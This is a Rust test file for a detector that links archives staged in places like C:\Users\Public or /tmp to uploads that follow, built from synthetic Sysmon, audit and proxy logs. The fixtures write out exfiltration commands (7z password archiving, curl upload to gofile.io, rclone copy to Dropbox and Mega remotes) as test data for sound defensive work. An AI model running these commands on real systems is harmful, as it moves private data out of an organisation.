//! Staging then upload: archives written to staging places, then uploaded
//! from the same host (by a tool naming the archive, or a flow of comparable
//! size); silent for browser uploads, archives kept elsewhere, and uploads
//! long after the staging.

mod support;

use outflow_analytics::stateful::staging_upload::StagingUpload;
use outflow_event::Position;
use support::{ctx, proxysg, proxysg_line, read_inputs, run_build, sysmon, sysmon3};

const HOST: &str = "WS-HR-02.corp.example";

fn seven_zip(time: &str, archive: &str) -> Vec<String> {
    vec![
        sysmon(
            1,
            time,
            HOST,
            &[
                ("ProcessId", "12788"),
                ("Image", r"C:\Program Files\7-Zip\7z.exe"),
                (
                    "CommandLine",
                    &format!(
                        r"7z.exe a -t7z -mhe=on -pSecret {archive} C:\Users\eivanova\Documents\*"
                    ),
                ),
                ("CurrentDirectory", r"C:\Users\eivanova\"),
                ("User", r"CORP\eivanova"),
            ],
        ),
        sysmon(
            11,
            &time.replace(":54.", ":59."),
            HOST,
            &[
                ("ProcessId", "12788"),
                ("Image", r"C:\Program Files\7-Zip\7z.exe"),
                ("TargetFilename", archive),
                ("User", r"CORP\eivanova"),
            ],
        ),
    ]
}

fn curl_upload(time: &str, archive: &str) -> String {
    sysmon(
        1,
        time,
        HOST,
        &[
            ("ProcessId", "3192"),
            ("Image", r"C:\Windows\System32\curl.exe"),
            ("OriginalFileName", "curl.exe"),
            (
                "CommandLine",
                &format!(
                    "curl.exe -F \"file=@{archive}\" https://store1.gofile.io/contents/uploadfile"
                ),
            ),
            ("User", r"CORP\eivanova"),
        ],
    )
}

#[test]
fn seven_zip_in_public_then_curl_naming_the_archive() {
    let archive = r"C:\Users\Public\q4.7z";
    let mut lines = seven_zip("2026-11-16T09:52:54.790Z", archive);
    lines.push(curl_upload("2026-11-16T09:58:54.790Z", archive));
    lines.push(sysmon3(
        "2026-11-16T09:58:56.090Z",
        HOST,
        r"C:\Windows\System32\curl.exe",
        "3192",
        "10.20.1.23",
        "store1.gofile.io",
        "51.38.101.93",
    ));
    let found = run_build(
        &ctx(None, None),
        StagingUpload::build,
        &read_inputs(&[("sysmon.jsonl", lines.join("\n"))]),
    );
    assert_eq!(found.len(), 1, "{found:#?}");
    let f = &found[0];
    assert_eq!(f.rule.id, "outflow.staging-upload");
    assert_eq!(f.risk_score, 9);
    assert_eq!(f.fields["staged"], archive);
    assert_eq!(f.fields["link"], "uploader names the staged file");
    assert_eq!(f.entity.host.as_deref(), Some(HOST));
    let d = f.destination.as_ref().unwrap();
    assert_eq!(d.domain.as_deref(), Some("store1.gofile.io"));
    // Staging records first (7z start, file create), then the upload and its connection.
    let lines: Vec<u64> = f
        .evidence
        .iter()
        .map(|e| match e.origin.position {
            Position::Line(l) => l,
            _ => 0,
        })
        .collect();
    assert_eq!(lines, [1, 2, 3, 4]);
}

#[test]
fn tar_in_tmp_then_rclone_on_linux() {
    let audit = r#"node=srv-git-01 type=SYSCALL msg=audit(1795003890.134:91945): arch=c000003e syscall=59 success=yes exit=0 a0=5591c3e0a2b0 a1=7ffc1a2b3c40 a2=10 a3=0 items=2 ppid=7232 pid=52246 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=(none) ses=34 comm="tar" exe="/usr/bin/tar" subj=unconfined key="exec"
node=srv-git-01 type=EXECVE msg=audit(1795003890.134:91945): argc=5 a0="tar" a1="czf" a2=".cache-7e33b2.tgz" a3="/srv/data" a4="/etc/app"
node=srv-git-01 type=CWD msg=audit(1795003890.134:91945): cwd="/tmp"
node=srv-git-01 type=EOE msg=audit(1795003890.134:91945):
node=srv-git-01 type=SYSCALL msg=audit(1795004725.134:91963): arch=c000003e syscall=59 success=yes exit=0 a0=5591c3e0a2b0 a1=7ffc1a2b3c40 a2=10 a3=0 items=2 ppid=7232 pid=52596 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=(none) ses=34 comm="rclone" exe="/usr/local/bin/rclone" subj=unconfined key="exec"
node=srv-git-01 type=EXECVE msg=audit(1795004725.134:91963): argc=5 a0="rclone" a1="copy" a2="/tmp/.cache-7e33b2.tgz" a3="dbx:/sync" a4="-q"
node=srv-git-01 type=CWD msg=audit(1795004725.134:91963): cwd="/home/lcho"
node=srv-git-01 type=EOE msg=audit(1795004725.134:91963):
"#;
    let found = run_build(
        &ctx(None, None),
        StagingUpload::build,
        &read_inputs(&[("audit.log", audit.to_string())]),
    );
    assert_eq!(found.len(), 1, "{found:#?}");
    let f = &found[0];
    assert_eq!(f.fields["staged"], "/tmp/.cache-7e33b2.tgz");
    assert_eq!(f.fields["tool"], "rclone");
    assert_eq!(
        f.destination.as_ref().unwrap().target.as_deref(),
        Some("dbx:/sync")
    );
    assert_eq!(f.evidence.len(), 2);
}

/// A host learnt from its own connection, an archive in Downloads, then a
/// proxy record of a script's upload from the host's address.
fn staged_then_proxy_upload(ua: &str, bytes: u64, upload_time: &str) -> Vec<outflow_event::Event> {
    let sys = [
        sysmon3(
            "2026-11-16T10:00:00.000Z",
            HOST,
            r"C:\Windows\System32\svchost.exe",
            "900",
            "10.20.1.23",
            "settings-win.data.microsoft.com",
            "20.42.65.90",
        ),
        sysmon(
            11,
            "2026-11-16T10:01:00.000Z",
            HOST,
            &[
                ("ProcessId", "4312"),
                ("Image", r"C:\Windows\explorer.exe"),
                (
                    "TargetFilename",
                    r"C:\Users\eivanova\Downloads\hr-export.zip",
                ),
                ("User", r"CORP\eivanova"),
            ],
        ),
    ];
    let proxy = proxysg(&[proxysg_line(
        upload_time,
        "10.20.1.23",
        r"CORP\eivanova",
        "POST",
        "upload.example-share.net",
        "/api/upload",
        ua,
        bytes,
    )]);
    read_inputs(&[("sysmon.jsonl", sys.join("\n")), ("proxysg.log", proxy)])
}

#[test]
fn a_script_upload_of_comparable_size_from_the_host_is_linked() {
    let events =
        staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 10:20:00");
    let found = run_build(&ctx(None, None), StagingUpload::build, &events);
    assert_eq!(found.len(), 1, "{found:#?}");
    let f = &found[0];
    assert_eq!(f.fields["link"], "upload of comparable size from the host");
    assert_eq!(
        f.fields["staged"],
        r"C:\Users\eivanova\Downloads\hr-export.zip"
    );
    assert_eq!(f.risk_score, 7);
    assert_eq!(f.bytes_out, Some(48_000_000));
    assert_eq!(f.entity.host.as_deref(), Some(HOST));
}

#[test]
fn browser_uploads_small_uploads_and_late_uploads_are_not_linked() {
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
    let c = ctx(None, None);
    // A person uploading with a browser.
    assert!(run_build(
        &c,
        StagingUpload::build,
        &staged_then_proxy_upload(chrome, 48_000_000, "2026-11-16 10:20:00")
    )
    .is_empty());
    // Too small for an unknown staged size (floor 10 MB).
    assert!(run_build(
        &c,
        StagingUpload::build,
        &staged_then_proxy_upload("python-requests/2.32.3", 200_000, "2026-11-16 10:20:00")
    )
    .is_empty());
    // Two hours after the staging (window 1 h).
    assert!(run_build(
        &c,
        StagingUpload::build,
        &staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 12:20:00")
    )
    .is_empty());
    // A longer window in the settings links it again.
    let wide = ctx(
        None,
        Some("analytics:\n  staging-upload:\n    window: 14400\n"),
    );
    assert_eq!(
        run_build(
            &wide,
            StagingUpload::build,
            &staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 12:20:00")
        )
        .len(),
        1
    );
}

#[test]
fn archives_outside_staging_places_and_backups_are_not_staging() {
    let archive = r"C:\Users\eivanova\Documents\q4.7z";
    let mut lines = seven_zip("2026-11-16T09:52:54.790Z", archive);
    lines.push(curl_upload("2026-11-16T09:58:54.790Z", archive));
    let c = ctx(None, None);
    assert!(run_build(
        &c,
        StagingUpload::build,
        &read_inputs(&[("sysmon.jsonl", lines.join("\n"))])
    )
    .is_empty());

    // The nightly backup: tar to /var/backups, then aws s3 sync of that folder.
    let audit = r#"node=srv-app-01 type=SYSCALL msg=audit(1794787300.000:1): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1 pid=100 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="tar" exe="/usr/bin/tar" subj=unconfined key="exec"
node=srv-app-01 type=EXECVE msg=audit(1794787300.000:1): argc=4 a0="tar" a1="czf" a2="/var/backups/etc.tgz" a3="/etc"
node=srv-app-01 type=EOE msg=audit(1794787300.000:1):
node=srv-app-01 type=SYSCALL msg=audit(1794787400.000:2): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1 pid=101 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="aws" exe="/usr/local/bin/aws" subj=unconfined key="exec"
node=srv-app-01 type=EXECVE msg=audit(1794787400.000:2): argc=5 a0="/usr/local/bin/aws" a1="s3" a2="sync" a3="/var/backups" a4="s3://corp-example-backups/srv-app-01/"
node=srv-app-01 type=EOE msg=audit(1794787400.000:2):
"#;
    assert!(run_build(
        &c,
        StagingUpload::build,
        &read_inputs(&[("audit.log", audit.to_string())])
    )
    .is_empty());
}

#[test]
fn state_survives_a_snapshot() {
    use outflow_analytics::StatefulAnalytic;
    let c = ctx(None, None);
    let archive = r"C:\Users\Public\q4.7z";
    let mut a = StagingUpload::new(&c).unwrap();
    let mut engine_events = read_inputs(&[(
        "sysmon.jsonl",
        seven_zip("2026-11-16T09:52:54.790Z", archive).join("\n"),
    )]);
    engine_events.sort_by_key(|e| e.ts);
    let mut engine = outflow_analytics::AnalyticsEngine::new(c.clone(), Vec::new());
    let mut out = Vec::new();
    for ev in &engine_events {
        let v = engine.view(ev);
        a.on_event(&v, &mut out);
    }
    let snap = a.snapshot();
    assert!(a.state_len() >= 1);
    let mut b = StagingUpload::new(&c).unwrap();
    b.restore(snap).unwrap();
    let later = read_inputs(&[(
        "sysmon.jsonl",
        curl_upload("2026-11-16T09:58:54.790Z", archive),
    )]);
    for ev in &later {
        let v = engine.view(ev);
        b.on_event(&v, &mut out);
    }
    b.finish(&mut out);
    assert_eq!(out.len(), 1);
    assert!(b.restore(serde_json::json!({"hosts": 3})).is_err());
}

#[test]
fn bulk_writes_to_a_staging_folder_then_rclone_of_that_folder() {
    let mut lines: Vec<String> = (0..200)
        .map(|i| {
            sysmon(
                11,
                &format!("2026-11-16T11:{:02}:{:02}.000Z", i / 60, i % 60),
                HOST,
                &[
                    ("ProcessId", "5120"),
                    ("Image", r"C:\Windows\System32\Robocopy.exe"),
                    (
                        "TargetFilename",
                        &format!(r"C:\Users\Public\stage\doc-{i:03}.pdf"),
                    ),
                    ("User", r"CORP\eivanova"),
                ],
            )
        })
        .collect();
    lines.push(sysmon(
        1,
        "2026-11-16T11:30:00.000Z",
        HOST,
        &[
            ("ProcessId", "6001"),
            ("Image", r"C:\Users\Public\rclone.exe"),
            ("OriginalFileName", "rclone.exe"),
            (
                "CommandLine",
                r"rclone.exe copy C:\Users\Public\stage mega:drop --transfers 8",
            ),
            ("User", r"CORP\eivanova"),
        ],
    ));
    let c = ctx(None, None);
    let found = run_build(
        &c,
        StagingUpload::build,
        &read_inputs(&[("sysmon.jsonl", lines.join("\n"))]),
    );
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].fields["staged_by"], "bulk file writes");
    assert_eq!(found[0].fields["staged"], r"C:\Users\Public\stage\");
    // 199 files are not a bulk (200 needed by default).
    lines.remove(0);
    assert!(run_build(
        &c,
        StagingUpload::build,
        &read_inputs(&[("sysmon.jsonl", lines.join("\n"))])
    )
    .is_empty());
}
